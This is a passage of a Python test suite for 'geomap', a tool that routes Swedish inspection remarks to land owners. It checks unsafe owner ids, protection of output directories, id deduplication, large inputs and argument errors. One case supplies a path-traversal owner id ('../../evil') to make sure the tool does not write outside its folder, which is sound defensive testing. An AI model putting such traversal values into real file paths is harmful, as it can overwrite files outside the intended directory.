    return ids_layer(c, ["../../evil", "a/b\\c", ".hidden"])


@case(ok(owner_lists({"o" * 300: ["A1"], "ä" * 300: ["A2"], "kommun": ["A3"]})), xlsx=True)
def owner_id_of_300_characters(c: Ctx) -> Setup:
    # Gave "File name too long".
    return ids_layer(c, ["o" * 300, "ä" * 300, "kommun"])


@case(ok(owner_lists({"con": ["A1"], "NUL": ["A2"], "aux.txt": ["A3"]})), xlsx=True)
def owner_ids_reserved_on_windows(c: Ctx) -> Setup:
    # Owners' lists are opened on Windows; CON, NUL, AUX are not file names there.
    return ids_layer(c, ["con", "NUL", "aux.txt"])


@case(
    ok(routed({"A1": "kommun", "A2": "huge"}), methods({"A1": "responsibility", "A2": "ownership"}))
)
def responsibility_layer(c: Ctx) -> Setup:
    resp = gpd.GeoDataFrame(
        {"owner": ["kommun"]}, geometry=[shapely.box(X0, Y0, X0 + 60, Y0 + 60)], crs="EPSG:3011"
    )
    path = c.vector("resp.gpkg", resp, layer="responsibility")
    rows = table_rows(2)
    return Setup([c.csv("a.csv", rows)], rows=2, args=["--responsibility", path])


@case(error(1, r"resp\.gpkg.*(owner|column|kolumn)"))
def responsibility_layer_without_owner_column(c: Ctx) -> Setup:
    resp = gpd.GeoDataFrame(
        {"namn": ["x"]}, geometry=[shapely.box(X0, Y0, X0 + 60, Y0 + 60)], crs="EPSG:3011"
    )
    return Setup([c.csv("a.csv")], args=["--responsibility", c.vector("resp.gpkg", resp)])


# ============================================================================================
# K. Output directories that must never destroy
# ============================================================================================


def first_run(c: Ctx, out: Path, inputs: Sequence[Path]) -> None:
    """A real geomap run into ``out``, as a previous week's output."""
    from click.testing import CliRunner

    from geomap.cli import cli

    args = [
        "route",
        *map(str, inputs),
        "--owners",
        str(c.owners("owners_first.gpkg")),
        "-o",
        str(out),
        "--no-map",
    ]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, f"the first run failed: {result.output[-300:]}"


@case(error(2, r"work"))
def outdir_holds_the_inputs_with_overwrite(c: Ctx) -> Setup:
    # Deleted the inputs and unrelated files.
    work = c.path("work/x").parent
    a = c.csv("work/a.csv")
    notes = c.text("work/notes.txt", "mina anteckningar")
    return Setup([a], out=work, args=["--overwrite"], keep=[a, notes])


@case(error(2, r"data"))
def outdir_is_an_ancestor_of_an_input(c: Ctx) -> Setup:
    a = c.csv("data/2025/v47/a.csv")
    return Setup([a], out=c.tmp / "data", args=["--overwrite"], keep=[a])


@case(error(2, r"(exists|finns|--overwrite|input|indata)"))
def outdir_dot_holding_the_inputs(c: Ctx) -> Setup:
    a = c.csv("work/a.csv")
    return Setup([a], out=Path(), cwd=a.parent, keep=[a])


@case(error(2, r"\."))
def outdir_dot_with_overwrite_holding_the_inputs(c: Ctx) -> Setup:
    a = c.csv("work/a.csv")
    return Setup([a], out=Path(), cwd=a.parent, args=["--overwrite"], keep=[a])


# `-o .` in an empty folder with --overwrite: nothing there to destroy, so writing into it is
# fine; refusing it because it is not a geomap output (no marker) is fine too. A traceback is not.
@case(one_of(ok(STANDARD), error(2, r"(\.|empty|geomap)")))
def outdir_dot_empty_folder_with_overwrite(c: Ctx) -> Setup:
    empty = c.path("empty/x").parent
    empty.mkdir(exist_ok=True)
    return Setup([c.csv("in/a.csv")], rows=3, out=Path(), cwd=empty, args=["--overwrite"])


@case(error((1, 2), r"file\.txt"))
def outdir_parent_is_a_file(c: Ctx) -> Setup:
    parent = c.text("file.txt", "inte en mapp")
    return Setup([c.csv("a.csv")], out=parent / "out", keep=[parent])


@case(error(2, r"file\.txt"))
def outdir_is_a_file(c: Ctx) -> Setup:
    target = c.text("file.txt", "inte en mapp")
    return Setup([c.csv("a.csv")], out=target, args=["--overwrite"], keep=[target])


@case(error(2, r"a\.csv"))
def outdir_is_the_input_file(c: Ctx) -> Setup:
    a = c.csv("a.csv")
    return Setup([a], out=a, args=["--overwrite"], keep=[a])


@case(error((1, 2), r"(readonly|geomap-hostile-out)"))
def outdir_in_a_read_only_parent(c: Ctx) -> Setup:
    if os.geteuid() == 0:
        # root writes anywhere in a chmod-ed folder; sysfs refuses new entries even to root.
        return Setup([c.csv("a.csv")], out=Path("/sys/geomap-hostile-out"))
    parent = c.path("readonly/x").parent
    parent.mkdir(exist_ok=True)
    parent.chmod(0o555)
    return Setup([c.csv("a.csv")], out=parent / "out", after=lambda: parent.chmod(0o755))


# A dangling symlink: writing where it points (keeping the link) or a one-line error naming it.
@case(
    one_of(
        ok(custom("still a symlink", lambda run: _assert_link(run.out))),
        error((1, 2), r"link"),
    )
)
def outdir_is_a_dangling_symlink(c: Ctx) -> Setup:
    link = c.tmp / "link"
    link.symlink_to(c.tmp / "missing_target")
    return Setup([c.csv("a.csv")], rows=3, out=link)


def _assert_link(path: Path) -> None:
    assert path.is_symlink(), f"{path} is no longer a symlink"
    assert (path.resolve() / "routed.gpkg").is_file(), "routed.gpkg not where the link points"


@case(ok(STANDARD, custom("still a symlink", lambda run: _assert_link(run.out))))
def outdir_symlink_to_a_previous_output(c: Ctx) -> Setup:
    target = c.tmp / "real_out"
    first_run(c, target, [c.csv("first.csv")])
    link = c.tmp / "link"
    link.symlink_to(target)
    return Setup([c.csv("a.csv")], rows=3, out=link, args=["--overwrite"])


@case(error(2, r"other"))
def overwrite_a_folder_geomap_did_not_write(c: Ctx) -> Setup:
    notes = c.text("other/notes.txt", "inte geomaps")
    return Setup([c.csv("a.csv")], out=notes.parent, args=["--overwrite"], keep=[notes])


@case(
    ok(
        routed({"A1": "kommun"}),
        custom("stale lists removed", lambda run: _assert_only_lists(run, {"kommun"})),
    )
)
def overwrite_a_previous_geomap_output(c: Ctx) -> Setup:
    out = c.tmp / "out"
    first_run(c, out, [c.csv("first.csv")])
    return Setup([c.csv("a.csv", table_rows(1))], rows=1, out=out, args=["--overwrite"])


def _assert_only_lists(run: Run, owners: set[str]) -> None:
    stems = {p.stem for p in (run.out / "owners").glob("*.csv")}
    assert stems == owners, f"owners/ holds lists {sorted(stems)}, expected {sorted(owners)}"


@case(error(2, r"(already exists|finns redan|--overwrite)"))
def outdir_exists_without_overwrite(c: Ctx) -> Setup:
    out = c.tmp / "out"
    first_run(c, out, [c.csv("first.csv")])
    return Setup([c.csv("a.csv")], out=out, keep=[out / "routed.gpkg"])


@case(ok(STANDARD))
def outdir_name_of_250_characters(c: Ctx) -> Setup:
    # A legal folder name; the temporary name beside it must not become too long.
    return Setup([c.csv("a.csv")], rows=3, out=c.tmp / ("v" * 250))


@case(ok(STANDARD))
def outdir_with_spaces_and_diacritics(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv")], rows=3, out=c.tmp / "ut data" / "vecka 47 – Östra Flemingsberg")


@case(ok(STANDARD))
def outdir_inside_the_input_folder(c: Ctx) -> Setup:
    # A new folder beside the inputs holds none of them: allowed.
    a = c.csv("in/a.csv")
    return Setup([a], rows=3, out=a.parent / "out", keep=[a])


# ============================================================================================
# L. Remark ids
# ============================================================================================


@case(ok(unique_ids({("a.csv", 1): "A", ("a.csv", 3): "A-2"})), xlsx=True)
def ids_a_a_a2(c: Ctx) -> Setup:
    # Came out A, A-2, A-2. The input's own A-2 keeps its id.
    return csv_case(c, table_rows(columns={"arendenr": ["A", "A", "A-2"]}))


@case(ok(unique_ids({("a.csv", 1): "A"})))
def ids_all_equal(c: Ctx) -> Setup:
    return csv_case(c, table_rows(columns={"arendenr": ["A", "A", "A"]}))


@case(ok(unique_ids({("a.csv", 1): "A1", ("b.csv", 2): None})))
def ids_repeated_across_files(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv"), c.csv("b.csv")], rows=6)


@case(ok(unique_ids({("a.csv", 1): "A1"})))
def ids_partly_empty(c: Ctx) -> Setup:
    return csv_case(c, table_rows(columns={"arendenr": ["A1", "", "  "]}))


@case(ok(routed({("a.csv", 1): "kommun", ("a.csv", 2): "kommun"})))
def identical_rows_without_id(c: Ctx) -> Setup:
    rows = table_rows(1, drop=["arendenr"])
    return csv_case(c, [rows[0], rows[1], rows[1]])


@case(ok(unique_ids({("a.csv", 1): "a", ("a.csv", 2): "A"})))
def ids_differing_in_case(c: Ctx) -> Setup:
    return csv_case(c, table_rows(2, columns={"arendenr": ["a", "A"]}))


@case(ok(unique_ids({("a.csv", 1): "1"})))
def ids_that_look_like_the_same_number(c: Ctx) -> Setup:
    return csv_case(c, table_rows(columns={"arendenr": ["1", "1.0", "01"]}))


@case(ok(unique_ids({("a.csv", 1): "A1"})))
def ids_with_surrounding_spaces(c: Ctx) -> Setup:
    return csv_case(c, table_rows(columns={"arendenr": ["A1", " A1 ", "A1\u00a0"]}))


@case(ok(routed({"A1": "kommun", "A2": "huge"}), text_length("A1", "description", 11)), xlsx=True)
def id_of_10000_characters(c: Ctx) -> Setup:
    rows = table_rows(
        columns={"arendenr": ["A1", "A2", "X" * 10_000], "beskrivning": ["kort text 1", "b", "c"]}
    )
    return csv_case(c, rows)


@case(ok(unique_ids({("a.csv", 1): "A-2", ("a.csv", 2): "A"})))
def ids_suffix_first_then_base(c: Ctx) -> Setup:
    # A-2, A, A: the generated suffix must skip the existing A-2.
    return csv_case(c, table_rows(columns={"arendenr": ["A-2", "A", "A"]}))


# ============================================================================================
# M. Size and shape of the run
# ============================================================================================


@case(
    ok(
        custom(
            "10,000 remarks to three owners",
            lambda run: _assert_counts(run, {"kommun": 3334, "huge": 3333, "privat": 3333}),
        )
    )
)
def rows_10000_csv(c: Ctx) -> Setup:
    n = 10_000
    rng = np.random.default_rng(47)
    owner = np.arange(n) % 3
    base = np.array([BOXES[o][0] for o in OWNERS])[owner]
    east = X0 + base + rng.uniform(10, 90, n)
    north = Y0 + rng.uniform(10, 90, n)
    lines = ["arendenr;datum;kategori;beskrivning;E;N"]
    days = pd.Timestamp("2025-01-01") + pd.to_timedelta(np.arange(n) % 365, unit="D")
    lines += [
        f"LB-{i:05d};{d:%Y-%m-%d} 12:00;{CATEGORIES[i % 3]};anmärkning {i};{e:.2f};{nn:.2f}".replace(
            ".", ","
        )
        for i, (d, e, nn) in enumerate(zip(days, east, north, strict=True))
    ]
    return Setup([c.text("big.csv", "\r\n".join(lines) + "\r\n", encoding="utf-8-sig")], rows=n)


def _assert_counts(run: Run, counts: dict[str, int]) -> None:
    got = run.remarks["owner"].value_counts().to_dict()
    assert got == counts, f"owners {got}, expected {counts}"


@case(ok(routed({"A1": "kommun"})))
def single_row(c: Ctx) -> Setup:
    return csv_case(c, table_rows(1))


@case(
    ok(
        routed({"A1": None, "A2": None}),
        custom("unrouted.csv holds 2 rows", lambda run: _assert_unrouted(run, 2)),
    )
)
def every_remark_unrouted(c: Ctx) -> Setup:
    far = [(num(X0 + 5000), num(Y0 + 5000)), (num(X0 - 3000), num(Y0 + 800))]
    return coordinate_table(c, ("E", "N"), far)


def _assert_unrouted(run: Run, n: int) -> None:
    rows = run.list_cells(run.out / "unrouted.csv")
    assert len(rows) - 1 == n, f"unrouted.csv holds {len(rows) - 1} rows"


@case(ok(flagged("A1", "unknown_category"), values("category_raw", {"A1": "Rymdskrot"})), xlsx=True)
def unknown_categories(c: Ctx) -> Setup:
    return csv_case(c, table_rows(columns={"kategori": ["Rymdskrot", "", "??"]}))


@case(ok(STANDARD, custom("no lists written", lambda run: _assert_no_lists(run))))
def no_lists_option(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv")], rows=3, args=["--no-lists"])


def _assert_no_lists(run: Run) -> None:
    assert not (run.out / "owners").exists() or not list((run.out / "owners").glob("*.csv")), (
        "lists written"
    )


# ============================================================================================
# N. Command-line arguments
# ============================================================================================


@case(error(2, r"missing\.csv"))
def input_does_not_exist(c: Ctx) -> Setup:
    return Setup([c.tmp / "missing.csv"])


@case(error(2, r"indir"))
def input_is_a_directory(c: Ctx) -> Setup:
    folder = c.path("indir/x").parent
    folder.mkdir(exist_ok=True)
    return Setup([folder])


# The same file twice is a slip of the shell: reading it once (with a warning) or refusing it
# are right; routing every remark twice is not.
@case(one_of(ok(STANDARD, warned(r"a\.csv")), error((1, 2), r"a\.csv")))
def same_input_given_twice(c: Ctx) -> Setup:
    a = c.csv("a.csv")
    return Setup([a, a], rows=3)


@case(error(2, r"--owners"))
def owners_option_missing(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv")], no_owners=True)


@case(error(2, r"--nonsense"))
def unknown_option(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv")], args=["--nonsense"])


@case(error(2, r"--workers"))
def workers_zero(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv")], args=["--workers", "0"])


@case(error(2, r"--source"))
def source_option_unknown(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv")], args=["--source", "radio"])


@case(ok(STANDARD, values("source", {"A1": "felanmalan"})))
def source_option(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv")], rows=3, args=["--source", "felanmalan"])


@case(ok(STANDARD))
def input_with_upper_case_suffix(c: Ctx) -> Setup:
    return Setup([c.csv("DATA.CSV")], rows=3)


@case(ok(STANDARD))
def input_tsv_suffix(c: Ctx) -> Setup:
    return Setup([c.csv("a.tsv", table_rows(decimal="."), delimiter="\t")], rows=3)


# A CSV without a suffix: sniffing it as a table, or a one-line error naming the file.
@case(one_of(ok(STANDARD), error(1, r"lagesbild\b")))
def input_without_suffix(c: Ctx) -> Setup:
    return Setup([c.csv("lagesbild")], rows=3)


@case(ok(routed({("lägesbild; v47 – Östra.csv", 1): "kommun"})), xlsx=True)
def input_file_name_with_semicolon_and_diacritics(c: Ctx) -> Setup:
    return Setup([c.csv("lägesbild; v47 – Östra.csv")], rows=3)
